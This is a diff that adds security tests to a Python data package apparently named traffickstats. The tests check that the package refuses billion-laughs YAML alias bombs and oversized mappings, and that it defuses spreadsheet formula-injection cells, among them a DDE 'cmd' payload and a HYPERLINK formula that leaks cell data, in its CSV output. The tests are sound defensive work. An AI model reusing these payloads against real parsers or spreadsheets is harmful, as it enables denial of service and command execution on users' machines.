@@ -493,12 +493,14 @@ def test_package_number_format_round_trips_through_the_parser(n, lang):
 @given(text=st.text(max_size=30), locale=st.sampled_from([None, "fr", "en"]))
 def test_parse_period_raises_only_value_error(text, locale):
     from traffickstats.loaders.usercsv import parse_period
+    from traffickstats.schema import PERIOD_RE
 
     try:
         start, end = parse_period(text, locale)
     except ValueError:
         return
-    assert 1900 <= start <= end <= 2100
+    assert re.fullmatch(PERIOD_RE, start) and re.fullmatch(PERIOD_RE, end) and start <= end
+    assert 1900 <= int(start[:4]) <= int(end[:4]) <= 2100
 
 
 @settings(max_examples=300, deadline=None)
@@ -546,3 +548,205 @@ def test_report_cli_runs_in_a_subprocess_without_executing_a_parameter(tmp_path)
     assert proc.returncode == 0, proc.stderr[-2000:]
     assert not marker.exists()
     assert "os.system(&#x27;touch" in out.read_text(encoding="utf-8") or "os.system('touch" in out.read_text(encoding="utf-8")
+
+
+# --- YAML that explodes: anchors and aliases are refused, size is capped ---------------------
+
+BILLION_LAUGHS = "\n".join(
+    ["columns: {Lieu: geo}", 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
+) + "\n"  # 9**9 = 387 million strings once expanded, from under 1 KB
+
+
+def test_billion_laughs_mapping_fails_at_its_first_alias(capsys, tmp_path):
+    """A 1 KB mapping of nested aliases is refused in one line, before anything expands it."""
+    assert len(BILLION_LAUGHS.encode()) < 1024
+    case = write_case(tmp_path, "laughs", "Texte")
+    bad = tmp_path / "laughs.yaml"
+    bad.write_text(BILLION_LAUGHS, encoding="utf-8")
+    err = _validate_fails(capsys, case["csv"], "--mapping", str(bad), culprit=bad)
+    assert "not valid YAML" in err and "aliases (*a0) are not accepted" in err and "line 3" in err
+
+
+@pytest.mark.parametrize("text", ["columns: &c {Lieu: geo}\nconstants: *c\n",
+                                  "base: &b {measure: detected_count}\nconstants:\n  <<: *b\n"])
+def test_any_alias_or_merge_key_is_refused(tmp_path, text):
+    from traffickstats.errors import DataFileError
+    from traffickstats.loaders.mapping import read_mapping
+
+    p = tmp_path / "alias.yaml"
+    p.write_text(text, encoding="utf-8")
+    with pytest.raises(DataFileError, match=r"aliases \(\*[bc]\) are not accepted"):
+        read_mapping(p)
+
+
+def test_oversize_mapping_is_refused_before_parsing(capsys, tmp_path):
+    case = write_case(tmp_path, "big", "Texte")
+    big = tmp_path / "big.yaml"
+    big.write_text("columns: {Lieu: geo}\n# " + "x" * (1024 * 1024) + "\n", encoding="utf-8")
+    err = _validate_fails(capsys, case["csv"], "--mapping", str(big), culprit=big)
+    assert "larger than 1000 KB" in err
+
+
+def test_report_parameter_with_aliases_is_refused():
+    from traffickstats.reports import parameters
+
+    with pytest.raises(ParameterError, match=r"aliases \(\*a\) are not accepted"):
+        parameters.parse_cli(["x=[&a [1, 1, 1], [*a, *a, *a]]"])
+
+
+# --- CSV written by the package: formula-leading cells are defused (OWASP) -------------------
+
+FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csvsafe_defuses_text_and_keeps_numbers():
+    import pandas as pd
+
+    from traffickstats import csvsafe
+
+    df = pd.DataFrame({"text": FORMULAS + ["ok", None], "number": [-3.5, 1, 2, 3, 4, 5, -1, 0],
+                       "mixed": pd.Series(["-3", -3, "=x", 1.5, None, "a", "b", "c"], dtype=object)})
+    out = csvsafe.defuse(df)
+    assert out["text"].tolist()[:6] == ["'" + f for f in FORMULAS]
+    assert out["text"].tolist()[6] == "ok" and pd.isna(out["text"].tolist()[7])
+    assert out["number"].tolist() == df["number"].tolist()  # a negative number stays a number
+    assert out["mixed"].tolist()[:3] == ["'-3", -3, "'=x"]  # text "-3" is text; -3 is a number
+    import csv
+    import io
+
+    back = list(csv.reader(io.StringIO(csvsafe.to_csv(df))))
+    assert back[1][:2] == ["'" + FORMULAS[0], "-3.5"]
+    assert [csvsafe.undefuse_cell(r[0]) for r in back[1:7]] == FORMULAS  # read back as written
+    assert csvsafe.undefuse_cell("'quoted") == "'quoted" and csvsafe.undefuse_cell("'") == "'"
+
+
+def test_rejects_file_defuses_raw_values(capsys, tmp_path):
+    """Raw values starting with = + - @ tab or CR are written with a leading apostrophe."""
+    import csv
+
+    rows = [[f"Lieu {i}", "autre", "2021", cell, "note"] for i, cell in enumerate(FORMULAS)]
+    case = write_case(tmp_path, "formula", "Texte")
+    path = Path(case["csv"])
+    with open(path, "a", encoding="utf-8", newline="") as fh:
+        csv.writer(fh, delimiter=";").writerows(rows)
+    out = tmp_path / "rejects.csv"
+    assert cli.main(["data", "validate", str(path), "--mapping", case["mapping"], "--json",
+                     "--rejects", str(out)]) == 0
+    summary = json.loads(capsys.readouterr().out)
+    with open(out, encoding="utf-8", newline="") as fh:
+        written = list(csv.DictReader(fh))
+    assert len(written) == summary["rejected"] == len(FORMULAS)
+    # raw values are the cell text, stripped of surrounding spaces (a tab or CR prefix too)
+    assert sorted(r["raw_value"] for r in written) == sorted("'" + f.strip() for f in FORMULAS)
+    assert all(r["row"].isdigit() and r["column"] == "Victimes" for r in written)
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in written for c in r.values())
+
+
+def test_data_show_and_sources_csv_are_defused(capsys):
+    """The one printer behind `data show --format csv` and `sources --format csv`, given
+    GENERATED hostile notes and titles (the bundled data holds none)."""
+    import csv
+    import io
+
+    from traffickstats.reference import bundled
+    from traffickstats.reference.commands import _print_frame
+
+    obs = bundled.observations().head(3).copy()
+    obs["note"] = ["=cmd|' /C calc'!A0", "@SUM(1)", "plain"]
+    obs["value"] = [-3.5, 1.0, 2.0]  # a genuinely negative number stays a number
+    _print_frame(obs, "csv", obs, "generated")
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [r["note"] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(1)", "plain"]
+    assert rows[0]["value"] == "-3.5"
+    src = bundled.sources().head(2).copy()
+    src["title"] = ["+HYPERLINK(\"x\")", "Titre"]
+    _print_frame(src, "csv", src, "generated")
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0]["title"] == "'+HYPERLINK(\"x\")" and rows[1]["title"] == "Titre"
+    # and through the CLI, the bundled rows come out whole (every column, parseable)
+    assert cli.main(["sources", "--format", "csv"]) == 0
+    assert len(list(csv.DictReader(io.StringIO(capsys.readouterr().out)))) == len(bundled.sources())
+
+
+def test_chart_and_flow_downloads_are_defused():
+    import csv
+    import io
+
+    import pandas as pd
+
+    from generated import generated_counts, generated_source
+    from traffickstats import charts
+    from traffickstats.flows import from_observations, sankey
+
+    obs = generated_counts()  # GENERATED counts
+    obs["note"] = "=HYPERLINK(\"http://example.org\")"
+    text = charts.ranked_bar(obs, "fr", catalog=generated_source()).layout.meta["traffickstats"]["csv"]
+    notes = {r["note"] for r in csv.DictReader(io.StringIO(text))}
+    assert notes == {"'=HYPERLINK(\"http://example.org\")"}
+    flows_obs = pd.DataFrame([{  # GENERATED flows: made-up counts between participants
+        "indicator": "trafficking_victims_detected", "measure": "detected_count", "geo": dest,
+        "geo_scheme": "iso3", "citizenship": cit, "period_start": 2020, "period_end": 2020, "value": v,
+        "unit": "persons", "censored": False, "source_id": "generated", "note": "@SUM(A1)"}
+        for dest, cit, v in (("FRA", "TUN", 10.0), ("BEL", "MAR", 20.0), ("CHE", "DZA", 5.0))])
+    fig = sankey(from_observations(flows_obs), "fr", scheme="unodc", catalog=generated_source("generated"))
+    rows = list(csv.DictReader(io.StringIO(fig.layout.meta["traffickstats"]["csv"])))
+    assert rows and {r["note"] for r in rows} <= {"'@SUM(A1)", ""}
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+
+
+# --- memory: a large junk file is streamed, its rejects never held row by row ----------------
+
+def _junk(tmp_path, mb: float) -> tuple[Path, Path]:
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "benchmarks"))
+    from make_junk import make_junk, write_mapping  # GENERATED junk rows, GENERATED mapping
+
+    return make_junk(tmp_path / f"generated_junk_{mb:g}.csv", int(mb * 1e6)), write_mapping(tmp_path / "m.yaml")
+
+
+def test_junk_rejects_are_streamed_to_a_log_not_held(tmp_path):
+    from traffickstats.loaders import load
+    from traffickstats.loaders.commands import write_rejects
+    from traffickstats.loaders.result import RejectLog
+
+    path, mapping = _junk(tmp_path, 2)
+    res = load(path, mapping=mapping)
+    log = res.reject_log
+    assert isinstance(log, RejectLog) and log._late == [] and len(log._runs) == 1  # one sorted temp file
+    s = res.summary()
+    assert s["rows_read"] == s["accepted"] + s["rejected"] and s["rejected"] > 40_000
+    assert len(s["rejects_by_reason"]) < 20  # grouped, not one reason per raw value
+    out = write_rejects(res, tmp_path / "rejects.csv")
+    assert res.__dict__["_rejects_table"] is None  # summary and the file never built the table
+    with open(out, encoding="utf-8", newline="") as fh:
+        import csv
+
+        rows = [int(r[0]) for r in list(csv.reader(fh))[1:]]
+    assert len(rows) == s["rejected"] and rows == sorted(rows)
+    assert len(res.rejects) == s["rejected"]  # the table is still there when asked for
+
+
+@pytest.mark.slow
+def test_junk_memory_does_not_grow_with_the_file(tmp_path):
+    """Python allocations while loading 2 MB and 8 MB of junk: the extra 6 MB cost almost
+    nothing (one bit per row number; bounded caches and buffers), not the rows themselves,
+    whose reject lines go to a temporary file. (The 200 MB case and its peak RSS are measured
+    by benchmarks/run.py, measurement g.)"""
+    import tracemalloc
+
+    from traffickstats.loaders import load
+
+    small, mapping = _junk(tmp_path, 0.2)
+    load(small, mapping=mapping)  # imports warmed outside the measurement
+    peaks = {}
+    for mb in (2, 8):
+        path, mapping = _junk(tmp_path, mb)
+        tracemalloc.start()
+        res = load(path, mapping=mapping)
+        res.summary()
+        peaks[mb] = (tracemalloc.get_traced_memory()[1], path.stat().st_size)
+        tracemalloc.stop()
+    (small_peak, small_size), (big_peak, big_size) = peaks[2], peaks[8]
+    assert big_peak - small_peak < 0.1 * (big_size - small_size), peaks
+    assert big_peak < big_size, peaks
